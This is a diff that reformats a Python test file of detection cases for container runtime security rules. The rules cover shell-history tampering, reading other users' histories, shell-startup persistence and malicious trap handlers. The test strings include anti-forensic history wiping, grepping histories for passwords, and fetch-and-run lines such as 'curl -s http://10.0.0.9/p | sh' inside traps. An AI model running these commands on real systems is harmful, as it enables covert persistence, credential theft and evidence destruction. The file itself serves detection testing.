@@ -42,7 +42,9 @@ def _rename(cmdline: str, old: str, new: str, **kw: Any) -> dict[str, Any]:
 
 
 def _ftruncate(cmdline: str, path: str, **kw: Any) -> dict[str, Any]:
-    return call("ftruncate", cmdline, {"fd.name": path, "fd.num": 3, "fd.typechar": "f", "evt.arg.length": 0}, **kw)
+    return call(
+        "ftruncate", cmdline, {"fd.name": path, "fd.num": 3, "fd.typechar": "f", "evt.arg.length": 0}, **kw
+    )
 
 
 CASES: list[PackCase] = [
@@ -55,13 +57,22 @@ CASES: list[PackCase] = [
             ),
             v(
                 "cat /dev/null > ~/.bash_history as the container's command (pid 1)",
-                open_("/root/.bash_history", "sh -c cat /dev/null > ~/.bash_history", WRITE, vpid=1, ancestors=[]),
+                open_(
+                    "/root/.bash_history",
+                    "sh -c cat /dev/null > ~/.bash_history",
+                    WRITE,
+                    vpid=1,
+                    ancestors=[],
+                ),
             ),
             v(
                 "bash -c ': >| ~/.zsh_history'",
                 open_("/home/app/.zsh_history", "bash -c : >| ~/.zsh_history", "O_WRONLY|O_CREAT|O_TRUNC"),
             ),
-            v("cp /dev/null ~/.bash_history", open_("/root/.bash_history", "cp /dev/null /root/.bash_history", WRITE)),
+            v(
+                "cp /dev/null ~/.bash_history",
+                open_("/root/.bash_history", "cp /dev/null /root/.bash_history", WRITE),
+            ),
             v(
                 "truncate -s0 opens without O_TRUNC, then ftruncate",
                 open_("/root/.bash_history", "truncate -s0 /root/.bash_history", RW_NOTRUNC),
@@ -77,10 +88,20 @@ CASES: list[PackCase] = [
             ),
             v(
                 "perl truncate() by name",
-                call("truncate", "perl -e truncate $f,0", {"evt.arg.path": "/root/.ash_history", "fd.name": "/root/.ash_history"}),
+                call(
+                    "truncate",
+                    "perl -e truncate $f,0",
+                    {"evt.arg.path": "/root/.ash_history", "fd.name": "/root/.ash_history"},
+                ),
             ),
-            v("shred overwrites in place", open_("/home/app/.bash_history", "shred -u /home/app/.bash_history", "O_WRONLY")),
-            v("rm", call("unlinkat", "rm /home/app/.bash_history", {"evt.arg.name": "/home/app/.bash_history"})),
+            v(
+                "shred overwrites in place",
+                open_("/home/app/.bash_history", "shred -u /home/app/.bash_history", "O_WRONLY"),
+            ),
+            v(
+                "rm",
+                call("unlinkat", "rm /home/app/.bash_history", {"evt.arg.name": "/home/app/.bash_history"}),
+            ),
             v(
                 "rm -f of a file that is not there (failed, intent still shown)",
                 call(
@@ -89,7 +110,10 @@ CASES: list[PackCase] = [
                     {"evt.arg.path": "/root/.sh_history", "evt.rawres": -2, "evt.res": "ENOENT"},
                 ),
             ),
-            v("unlink(1)", call("unlink", "unlink /root/.psql_history", {"evt.arg.path": "/root/.psql_history"})),
+            v(
+                "unlink(1)",
+                call("unlink", "unlink /root/.psql_history", {"evt.arg.path": "/root/.psql_history"}),
+            ),
             v(
                 "ln -sf /dev/null on a new name",
                 call(
@@ -109,7 +133,11 @@ CASES: list[PackCase] = [
             ),
             v(
                 "fish history by a shell running a command",
-                open_("/root/.local/share/fish/fish_history", "bash -c > ~/.local/share/fish/fish_history", WRITE),
+                open_(
+                    "/root/.local/share/fish/fish_history",
+                    "bash -c > ~/.local/share/fish/fish_history",
+                    WRITE,
+                ),
             ),
             v(
                 "node REPL history truncated by another program",
@@ -144,8 +172,14 @@ CASES: list[PackCase] = [
                 "another dotfile removed",
                 call("unlinkat", "rm /root/.bashrc", {"evt.arg.name": "/root/.bashrc"}),
             ),
-            v("a file named like history elsewhere", open_("/app/history.json", "sh -c > /app/history.json", WRITE)),
-            v("appending through a shell", open_("/root/.bash_history", "sh -c echo ls >> ~/.bash_history", APPEND)),
+            v(
+                "a file named like history elsewhere",
+                open_("/app/history.json", "sh -c > /app/history.json", WRITE),
+            ),
+            v(
+                "appending through a shell",
+                open_("/root/.bash_history", "sh -c echo ls >> ~/.bash_history", APPEND),
+            ),
             v("on the host", open_("/root/.bash_history", "sh -c > /root/.bash_history", WRITE, where=HOST)),
         ],
     ),
@@ -166,7 +200,10 @@ CASES: list[PackCase] = [
                 ),
             ),
             v("history -w /dev/null", exec_("bash -c history -w /dev/null; id", tty=PTS_TTY, ancestors=EXEC)),
-            v("history -d of the last entries", exec_("bash -c history -d -5--1", ancestors=["bash", "sshd"])),
+            v(
+                "history -d of the last entries",
+                exec_("bash -c history -d -5--1", ancestors=["bash", "sshd"]),
+            ),
             v("zsh fc -p (memory-only history)", exec_("zsh -c fc -p; curl -s x", ancestors=EXEC)),
         ],
         near_misses=[
@@ -185,9 +222,15 @@ CASES: list[PackCase] = [
             ),
             v(
                 "HISTCONTROL quoted (bash)",
-                exec_('bash -c if [ "$HISTCONTROL" != "ignoreboth" ]; then export HISTCONTROL="ignoreboth"; fi', ancestors=EXEC),
+                exec_(
+                    'bash -c if [ "$HISTCONTROL" != "ignoreboth" ]; then export HISTCONTROL="ignoreboth"; fi',
+                    ancestors=EXEC,
+                ),
             ),
-            v("HISTSIZE=0 as the container's command", exec_("sh -c export HISTSIZE=0\nwhoami", vpid=1, ancestors=[])),
+            v(
+                "HISTSIZE=0 as the container's command",
+                exec_("sh -c export HISTSIZE=0\nwhoami", vpid=1, ancestors=[]),
+            ),
             v("HISTFILESIZE=0", exec_("bash -c export HISTFILESIZE=0\ngroups", ancestors=EXEC)),
             v('HISTFILE="/dev/null"', exec_('bash -c export HISTFILE="/dev/null"\nwhoami', ancestors=EXEC)),
             v("HISTFILE emptied", exec_("bash -c HISTFILE= ; id", ancestors=EXEC)),
@@ -195,7 +238,10 @@ CASES: list[PackCase] = [
             v("set +o history", exec_("sh -c set +o history", ancestors=EXEC)),
             v("HISTIGNORE='*'", exec_("bash -c export HISTIGNORE='*'; whoami", ancestors=EXEC)),
             v("zsh: setopt HIST_IGNORE_SPACE", exec_("zsh -c setopt HIST_IGNORE_SPACE; id", ancestors=EXEC)),
-            v("mysql client history to /dev/null", exec_("sh -c MYSQL_HISTFILE=/dev/null mysql -uroot", ancestors=EXEC)),
+            v(
+                "mysql client history to /dev/null",
+                exec_("sh -c MYSQL_HISTFILE=/dev/null mysql -uroot", ancestors=EXEC),
+            ),
             v(
                 "a shell started after an export in an interactive session (env)",
                 exec_(
@@ -209,7 +255,10 @@ CASES: list[PackCase] = [
                 "sh -c from a shell that exported HISTSIZE=0 through an indirection (env)",
                 exec_(
                     "sh -c id",
-                    {"proc.env": "HOME=/root HISTSIZE=0", "proc.pcmdline": "sh -c v=HIST; export ${v}SIZE=0; sh -c id"},
+                    {
+                        "proc.env": "HOME=/root HISTSIZE=0",
+                        "proc.pcmdline": "sh -c v=HIST; export ${v}SIZE=0; sh -c id",
+                    },
                     ancestors=["sh", "runc"],
                 ),
             ),
@@ -231,7 +280,10 @@ CASES: list[PackCase] = [
                 "a child of the shell that said so (its alert is the shell's)",
                 exec_(
                     "bash -c id",
-                    {"proc.env": "HISTFILE=/dev/null", "proc.pcmdline": "sh -c export HISTFILE=/dev/null; bash -c id"},
+                    {
+                        "proc.env": "HISTFILE=/dev/null",
+                        "proc.pcmdline": "sh -c export HISTFILE=/dev/null; bash -c id",
+                    },
                     ancestors=["sh", "runc"],
                 ),
             ),
@@ -247,7 +299,10 @@ CASES: list[PackCase] = [
                 "the entrypoint of an image with history off",
                 exec_("sh /entrypoint.sh", {"proc.env": "HISTFILE=/dev/null"}, vpid=1, ancestors=[]),
             ),
-            v("on the host", exec_("bash -c export HISTFILE=/dev/null", where=HOST, ancestors=["bash", "sshd"])),
+            v(
+                "on the host",
+                exec_("bash -c export HISTFILE=/dev/null", where=HOST, ancestors=["bash", "sshd"]),
+            ),
         ],
     ),
     PackCase(
@@ -260,20 +315,38 @@ CASES: list[PackCase] = [
             ),
             v(
                 "grep through every user's history (the exec)",
-                exec_("grep -e pass -e ssh /home/app/.bash_history /root/.bash_history", ancestors=["sh", "runc"]),
+                exec_(
+                    "grep -e pass -e ssh /home/app/.bash_history /root/.bash_history",
+                    ancestors=["sh", "runc"],
+                ),
             ),
-            v("grep opens another user's", open_("/home/app/.bash_history", "grep -i pass /home/app/.bash_history", RDONLY)),
+            v(
+                "grep opens another user's",
+                open_("/home/app/.bash_history", "grep -i pass /home/app/.bash_history", RDONLY),
+            ),
             v("strings", open_("/root/.zsh_history", "strings /root/.zsh_history", RDONLY)),
-            v("a shell redirection (sh -c 'grep x < ~/.bash_history')", open_("/root/.bash_history", "sh -c grep x < ~/.bash_history", RDONLY)),
+            v(
+                "a shell redirection (sh -c 'grep x < ~/.bash_history')",
+                open_("/root/.bash_history", "sh -c grep x < ~/.bash_history", RDONLY),
+            ),
             v("python reads a REPL history", open_("/root/.mysql_history", "python3 /tmp/loot.py", RDONLY)),
             v("tar of a home", open_("/home/app/.bash_history", "tar czf /tmp/h.tgz /home/app", RDONLY)),
             v("cp to loot", open_("/root/.psql_history", "cp /root/.psql_history /tmp/l", RDONLY)),
         ],
         near_misses=[
-            v("an interactive bash loads its history", open_("/root/.bash_history", "bash", RDONLY, tty=PTS_TTY)),
+            v(
+                "an interactive bash loads its history",
+                open_("/root/.bash_history", "bash", RDONLY, tty=PTS_TTY),
+            ),
             v("a login shell loads it", open_("/root/.bash_history", "bash --login", RDONLY, tty=PTS_TTY)),
-            v("the python REPL loads its history", open_("/root/.python_history", "python3", RDONLY, tty=PTS_TTY)),
-            v("psql loads its history", open_("/var/lib/postgresql/.psql_history", "psql -U app", RDONLY, tty=PTS_TTY)),
+            v(
+                "the python REPL loads its history",
+                open_("/root/.python_history", "python3", RDONLY, tty=PTS_TTY),
+            ),
+            v(
+                "psql loads its history",
+                open_("/var/lib/postgresql/.psql_history", "psql -U app", RDONLY, tty=PTS_TTY),
+            ),
             v("less loads .lesshst", open_("/root/.lesshst", "less /var/log/app.log", RDONLY, tty=PTS_TTY)),
             v("cat of a log", exec_("cat /var/log/app.log")),
             v("on the host", open_("/root/.bash_history", "cat /root/.bash_history", RDONLY, where=HOST)),
@@ -288,11 +361,20 @@ CASES: list[PackCase] = [
             ),
             v(
                 "/etc/profile.d script dropped by the container's command (pid 1)",
-                open_("/etc/profile.d/zz.sh", "sh -c echo 'curl x|sh' > /etc/profile.d/zz.sh", WRITE, vpid=1, ancestors=[]),
+                open_(
+                    "/etc/profile.d/zz.sh",
+                    "sh -c echo 'curl x|sh' > /etc/profile.d/zz.sh",
+                    WRITE,
+                    vpid=1,
+                    ancestors=[],
+                ),
             ),
             v("tee -a ~/.profile", open_("/home/app/.profile", "tee -a /home/app/.profile", APPEND)),
             v("cp over /etc/bash.bashrc", open_("/etc/bash.bashrc", "cp /tmp/rc /etc/bash.bashrc", WRITE)),
-            v("python appends to ~/.zshrc", open_("/root/.zshrc", "python3 -c open('/root/.zshrc','a')", APPEND)),
+            v(
+                "python appends to ~/.zshrc",
+                open_("/root/.zshrc", "python3 -c open('/root/.zshrc','a')", APPEND),
+            ),
             v(
                 "sed -i renames its temp file over ~/.bash_profile",
                 _rename("sed -i $a/tmp/x ~/.bash_profile", "/root/sedAb12Cd", "/root/.bash_profile"),
@@ -307,7 +389,10 @@ CASES: list[PackCase] = [
                 ),
             ),
             v("zsh system file", open_("/etc/zsh/zshrc", "sh -c cat >> /etc/zsh/zshrc", APPEND)),
-            v("fish config", open_("/root/.config/fish/config.fish", "sh -c echo x >> ~/.config/fish/config.fish", APPEND)),
+            v(
+                "fish config",
+                open_("/root/.config/fish/config.fish", "sh -c echo x >> ~/.config/fish/config.fish", APPEND),
+            ),
         ],
         near_misses=[
             v("the shell reads ~/.bashrc", open_("/root/.bashrc", "bash", RDONLY, tty=PTS_TTY)),
@@ -317,7 +402,12 @@ CASES: list[PackCase] = [
             ),
             v(
                 "a package script writes /etc/profile.d",
-                open_("/etc/profile.d/locale.sh", "sh /var/lib/dpkg/info/x.postinst", WRITE, ancestors=["dpkg", "apt-get"]),
+                open_(
+                    "/etc/profile.d/locale.sh",
+                    "sh /var/lib/dpkg/info/x.postinst",
+                    WRITE,
+                    ancestors=["dpkg", "apt-get"],
+                ),
             ),
             v("useradd copies /etc/skel", open_("/home/bob/.bashrc", "useradd -m bob", WRITE)),
             v("an application's own .profile-like file", open_("/app/profile.json", "node server.js", WRITE)),
@@ -340,10 +430,15 @@ CASES: list[PackCase] = [
             ),
             v(
                 "DEBUG trap logging every command",
-                exec_("bash -c trap 'echo \"$BASH_COMMAND\" >> /tmp/k.txt' DEBUG\nwhoami\nid", ancestors=EXEC),
+                exec_(
+                    "bash -c trap 'echo \"$BASH_COMMAND\" >> /tmp/k.txt' DEBUG\nwhoami\nid", ancestors=EXEC
+                ),
             ),
             v("a /tmp program on EXIT", exec_("sh -c trap '/tmp/.x/run' EXIT; sleep 5", ancestors=EXEC)),
-            v("curl | sh on ERR", exec_("bash -c trap 'curl -s http://10.0.0.9/p | sh' ERR; false", ancestors=EXEC)),
+            v(
+                "curl | sh on ERR",
+                exec_("bash -c trap 'curl -s http://10.0.0.9/p | sh' ERR; false", ancestors=EXEC),
+            ),
             v("python on HUP", exec_("dash -c trap \"python3 -c 'import pty'\" HUP", ancestors=EXEC)),
             v("RETURN trap", exec_("bash -c f(){ :; }; trap 'id >> /dev/shm/l' RETURN; f", ancestors=EXEC)),
             v("trap 0 with wget", exec_("sh -c trap 'wget -q -O /tmp/a http://x/a' 0", ancestors=EXEC)),
@@ -359,10 +454,16 @@ CASES: list[PackCase] = [
             ),
             v(
                 "a cleanup trap removing a /tmp directory",
-                exec_("bash -c d=$(mktemp -d); trap 'rm -rf /tmp/work' EXIT; tar xf a.tar -C $d", ancestors=["bash", "make"]),
+                exec_(
+                    "bash -c d=$(mktemp -d); trap 'rm -rf /tmp/work' EXIT; tar xf a.tar -C $d",
+                    ancestors=["bash", "make"],
+                ),
             ),
             v("trap listed", exec_("bash -c trap -p", ancestors=EXEC)),
-            v("on the host", exec_("bash -c trap 'nohup sh /tmp/x' EXIT", where=HOST, ancestors=["bash", "sshd"])),
+            v(
+                "on the host",
+                exec_("bash -c trap 'nohup sh /tmp/x' EXIT", where=HOST, ancestors=["bash", "sshd"]),
+            ),
         ],
     ),
 ]
